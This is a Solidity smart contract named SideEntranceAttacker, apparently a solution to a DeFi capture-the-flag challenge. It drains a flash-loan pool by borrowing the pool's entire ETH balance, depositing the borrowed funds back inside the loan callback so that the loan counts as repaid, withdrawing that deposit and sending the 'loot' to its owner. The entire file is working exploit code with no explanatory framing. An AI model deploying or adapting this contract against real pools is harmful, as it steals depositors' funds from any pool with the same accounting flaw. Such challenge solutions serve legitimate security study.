// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

import {IEtherFlashBorrower, IEtherFlashPool} from "./IEtherFlashPool.sol";

/// @title SideEntranceAttacker
/// @notice Borrows a flash pool's whole balance, repays it as a deposit of its own, withdraws that
/// deposit and hands the ETH to its owner.
contract SideEntranceAttacker is IEtherFlashBorrower, Ownable {
    error SideEntranceAttackerUnexpectedSender(address sender);
    error SideEntranceAttackerPayoutFailed(address to, uint256 amount);

    IEtherFlashPool public immutable pool;

    constructor(IEtherFlashPool pool_, address owner_) Ownable(owner_) {
        pool = pool_;
    }

    /// @notice Runs the attack against the pool's whole balance.
    function attack() external onlyOwner {
        uint256 amount = address(pool).balance;
        pool.flashLoan(amount);
        pool.withdraw(amount);
        uint256 loot = address(this).balance;
        (bool paid, ) = owner().call{value: loot}("");
        if (!paid) revert SideEntranceAttackerPayoutFailed(owner(), loot);
    }

    /// @inheritdoc IEtherFlashBorrower
    function onEtherFlashLoan() external payable {
        if (msg.sender != address(pool)) revert SideEntranceAttackerUnexpectedSender(msg.sender);
        pool.deposit{value: msg.value}();
    }

    /// @dev The pool pays the withdrawal here.
    receive() external payable {}
}
